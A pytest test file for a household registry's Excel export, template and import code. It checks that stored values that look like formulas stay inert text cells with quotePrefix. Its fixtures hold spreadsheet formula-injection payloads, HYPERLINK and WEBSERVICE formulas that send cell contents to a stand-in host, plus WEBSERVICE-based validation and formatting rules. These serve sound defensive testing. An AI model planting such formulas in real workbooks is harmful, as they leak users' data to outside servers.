"""No workbook we write carries a live formula from data (issue 13, item 5): values from a
store or a user that start like a formula (=, +, -, @, after tabs or line breaks too) are
string cells in exports, templates and both kinds of marked copy, keep their exact text
(no apostrophe), carry quotePrefix, and an export re-imports equal."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.worksheet.datavalidation import DataValidation
from sqlalchemy import select

from registry.households import save_household
from registry.models import Household, Member
from registry.store import Store
from reports.excel import marking_large
from reports.excel.export import export_households
from reports.excel.fastrows import FastSheet
from reports.excel.formulas import starts_like_formula
from reports.excel.importing import import_workbook
from reports.excel.marking import ERRORS_SHEET
from reports.excel.template import write_template
from tests.conftest import PASSWORD, TOWNSHIP
from tests.reports.excel_fill import VILLAGE, family, fill, household, idn
from tests.reports.formula_scan import live_formulas

LINK = '=HYPERLINK("http://x.example/?"&D3)'
FETCH = '=WEBSERVICE("http://x.example/"&B2)'
# What a household may hold in free-text fields (a name may not contain digits).
STORED = {"note": LINK, "bank_name": "+WEBSERVICE(\"http://x\")", "disability_cert": "@SUM(A)",
          "name": "=吉克阿呷", "spouse": "-阿苏"}


def _hostile_household(store: Store) -> None:
    with store.transaction() as s:
        save_household(s, "admin", {
            "village_code": VILLAGE, "group_no": 1, "identification_standard": "1",
            "attribute": "1", "stage": "10", "poverty_status": "1", "main_cause": "01",
            "note": STORED["note"], "bank_name": STORED["bank_name"]}, [
            {"name": STORED["name"], "relation": "01", "ethnicity": "01", "health": "4",
             "id_number": idn("51343119600101001"),
             "disability_cert": STORED["disability_cert"]},
            {"name": STORED["spouse"], "relation": "02", "ethnicity": "01", "health": "1",
             "id_number": idn("51343119620101002")}])


def _strings(path: Path, sheet: str) -> dict[str, Any]:
    """value → cell of every str cell of the sheet (first occurrence)."""
    ws = load_workbook(path)[sheet]
    return {c.value: c for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and c.data_type == "s"}


def test_export_keeps_formula_like_values_as_text_and_reimports_them(
        station: Store, tmp_path: Path) -> None:
    _hostile_household(station)
    path = tmp_path / "登记簿.xlsx"
    export_households(station, path, title=FETCH)

    assert live_formulas(path) == []
    households, members = _strings(path, "农户"), _strings(path, "家庭成员")
    for value in (STORED["note"], STORED["bank_name"]):
        assert households[value].quotePrefix, value
    for value in (STORED["name"], STORED["spouse"], STORED["disability_cert"]):
        assert members[value].quotePrefix, value
    info = {r[0]: r[1] for r in load_workbook(path)["说明"].iter_rows(values_only=True)}
    assert info["标题"] == FETCH

    other, _ = Store.create(tmp_path / "other.db", kind="station", region_code=TOWNSHIP,
                            user="admin", password=PASSWORD)
    with other:
        report = import_workbook(other, path)
        assert report.ok, report.problems
        with other.session() as s:
            h = s.execute(select(Household)).scalar_one()
            assert (h.note, h.bank_name) == (STORED["note"], STORED["bank_name"])
            people = {m.relation: m for m in s.execute(select(Member)).scalars()}
            assert people["01"].name == STORED["name"]
            assert people["01"].disability_cert == STORED["disability_cert"]
            assert people["02"].name == STORED["spouse"]


def test_template_with_formula_like_village_names(tmp_path: Path) -> None:
    path = write_template(tmp_path / "模板.xlsx", villages=[LINK, "尼日村", "@村"])
    assert live_formulas(path) == []
    codes = _strings(path, "代码表")
    assert codes[LINK].quotePrefix and codes["@村"].quotePrefix
    assert not codes["尼日村"].quotePrefix


def test_fast_rows_write_strings_never_formulas(tmp_path: Path) -> None:
    wb = Workbook(write_only=True)
    ws = FastSheet.create(wb, "x")
    values = [LINK, "\t=1+1", "\r\n=1+1", "+1", "-", "@A1", "＝1+1", "#N/A", "正常"]
    ws.append_plain(values)
    wb.save(tmp_path / "x.xlsx")
    with zipfile.ZipFile(tmp_path / "x.xlsx") as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and xml.count('t="inlineStr"') == len(values)
    assert live_formulas(tmp_path / "x.xlsx") == []
    row = next(load_workbook(tmp_path / "x.xlsx")["x"].iter_rows())
    assert [c.value for c in row] == values  # exactly, CR included
    assert [bool(c.quotePrefix) for c in row] == [starts_like_formula(v) for v in values]
    assert [bool(c.quotePrefix) for c in row] == [True] * 7 + [False] * 2


@pytest.fixture(params=["loaded", "streamed"])
def marking(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Both ways of writing the marked copy: loaded whole (small files) and streamed."""
    if request.param == "streamed":
        monkeypatch.setattr(marking_large, "LARGE_ROWS", 0)
    return str(request.param)


def _as_typed_text(path: Path, cells: dict[tuple[str, str], str]) -> None:
    """Stores the values as string cells, as Excel does for text typed with a leading
    apostrophe or pasted into a text-formatted cell (openpyxl would make formulas)."""
    wb = load_workbook(path)
    for (sheet, ref), value in cells.items():
        cell = wb[sheet][ref]
        cell.value = value
        cell.data_type = "s"
    wb.save(path)


def test_marked_copy_holds_no_formula(station: Store, tmp_path: Path, marking: str) -> None:
    path = fill(tmp_path / "有错.xlsx", [household(1), household(2)],
                family(1, 0) + family(2, 1))
    headers = {c.value.lstrip("*"): c.column_letter for c in load_workbook(path)["农户"][1]}
    m_headers = {c.value.lstrip("*"): c.column_letter
                 for c in load_workbook(path)["家庭成员"][1]}
    typed = {
        ("家庭成员", f"{m_headers['姓名']}2"): LINK,  # digits in a name: refused, listed
        ("家庭成员", f"{m_headers['姓名']}3"): "@阿苏",
        ("农户", f"{headers['开户银行']}2"): "+" + FETCH[1:],
        ("农户", f"{headers['备注']}2"): "\t" + FETCH,
        ("农户", f"{headers['开户银行']}3"): "-",
        ("农户", f"{headers['村民小组(组)']}3"): "\r\n=1+1",  # not a number: refused, listed
    }
    _as_typed_text(path, typed)
    wb = load_workbook(path)  # the user's own live content, which the copy must not carry
    ws = wb["农户"]
    ws[f"{headers['备注']}3"] = "=1+1"  # a formula cell (no cached value)
    dv = DataValidation(type="custom", formula1='WEBSERVICE("http://x.example/")')
    dv.sqref = "AR2:AR9"
    ws.add_data_validation(dv)
    ws.conditional_formatting.add("A2:A9", FormulaRule(
        formula=['ISNUMBER(WEBSERVICE("http://x.example/"&A2))'],
        fill=PatternFill("solid", fgColor="FF0000")))
    wb.save(path)
    assert len(live_formulas(path)) >= 3  # the scan sees what the user put there

    report = import_workbook(station, path)

    assert not report.ok and report.marked_copy is not None
    assert {p.value for p in report.problems} >= {LINK, "=1+1"}  # read stripped
    assert live_formulas(report.marked_copy) == []
    copy = load_workbook(report.marked_copy)
    for (sheet, ref), value in typed.items():
        cell = copy[sheet][ref]
        assert (cell.value, cell.data_type) == (value, "s"), (sheet, ref)
        assert cell.quotePrefix == starts_like_formula(value) or value == "-"
    listed = [r[4] for r in copy[ERRORS_SHEET].iter_rows(min_row=2, values_only=True)]
    assert LINK in listed and "=1+1" in listed
    assert copy["农户"][f"{headers['备注']}3"].data_type != "f"

    # the corrected copy imports, and what was typed arrives as it was typed
    copy["家庭成员"][f"{m_headers['姓名']}2"] = "吉克阿甲"
    copy["农户"][f"{headers['村民小组(组)']}3"] = 3
    buffer = io.BytesIO()
    copy.save(buffer)
    (tmp_path / "改好.xlsx").write_bytes(buffer.getvalue())
    again = import_workbook(station, tmp_path / "改好.xlsx")
    assert again.ok, again.problems
    with station.session() as s:
        banks = set(s.execute(select(Household.bank_name)).scalars())
        assert banks == {"+" + FETCH[1:], "-"}
        assert set(s.execute(select(Household.note)).scalars()) == {FETCH, None}
